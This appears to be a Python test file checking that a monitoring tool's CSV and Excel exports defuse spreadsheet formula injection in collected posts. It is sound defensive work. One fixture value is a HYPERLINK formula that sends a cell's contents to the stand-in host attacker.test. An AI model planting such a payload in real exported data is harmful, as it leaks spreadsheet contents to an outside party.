"""Formulas in collected posts never reach a spreadsheet live: every CSV and Excel file Veille
writes, on posts imported for real by the file collector."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from reports import exports
from store.filters import Filters
from store.mentions import MentionQuery
from tests.conftest import FORMULA_CELL, FORMULA_POSTS, db_rows


def csv_cells(data: bytes) -> list[list[str]]:
    """The rows of a CSV file as a spreadsheet imports them (BOM dropped)."""
    assert data.startswith("\ufeff".encode())  # Excel reads accents right only with it
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def assert_inert(rows: list[list[object]]) -> None:
    """No cell would run as a formula, and each hostile post is there, kept after a ``'``."""
    header, body = rows[0], rows[1:]
    assert len(body) == len(FORMULA_POSTS)
    live = [cell for row in body for cell in row
            if isinstance(cell, str) and FORMULA_CELL.match(cell)]
    assert live == []
    by_column = {name: {row[header.index(name)] for row in body}
                 for name in ("title", "text", "author")}
    assert "'=HYPERLINK(\"http://attacker.test/?x=\"&A1,\"click\")" in by_column["title"]
    assert "'@mallory" in by_column["author"]
    assert "'-acme-1" in by_column["text"]


def test_the_file_importer_trims_but_exports_keep_the_formula_inert(formula_db):
    # " =1+1 acme" was inert as written; stored trimmed, it would run if exported raw.
    stored = {text for (text,) in db_rows(formula_db, "SELECT text FROM items")}
    assert "=1+1 acme" in stored
    rows = csv_cells(exports.csv_bytes(formula_db, Filters()))
    assert "'=1+1 acme" in {row[rows[0].index("text")] for row in rows[1:]}


def test_the_sidebar_csv_has_no_live_formula(formula_db):
    assert_inert(csv_cells(exports.csv_bytes(formula_db, Filters())))


def test_the_sidebar_excel_has_no_live_formula(formula_db):
    book = load_workbook(io.BytesIO(exports.xlsx_bytes(formula_db, Filters())))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert_inert([list(row) for row in book["Mentions"].iter_rows(values_only=True)])


def test_the_mentions_page_csv_has_no_live_formula(formula_db):
    # What "Download this list (CSV)" on the Mentions page gives, searched and sorted.
    data = exports.list_csv_bytes(formula_db, Filters(), MentionQuery(sort="newest"))
    assert_inert(csv_cells(data))
    searched = csv_cells(exports.list_csv_bytes(formula_db, Filters(),
                                                MentionQuery(search="HYPERLINK")))
    assert len(searched) == 3 and not any(FORMULA_CELL.match(c) for r in searched for c in r)


def test_one_safe_cell_rule_for_every_blank_a_spreadsheet_trims():
    for value in ("=1", " =1", "\t=1", "\r=1", "\n+1", "  -1", "\u00a0@x", "@x"):
        assert exports.safe_cell(value) == "'" + value
    for value in ("acme", "1 = 1", "a-b", "", 42, None):
        assert exports.safe_cell(value) == value
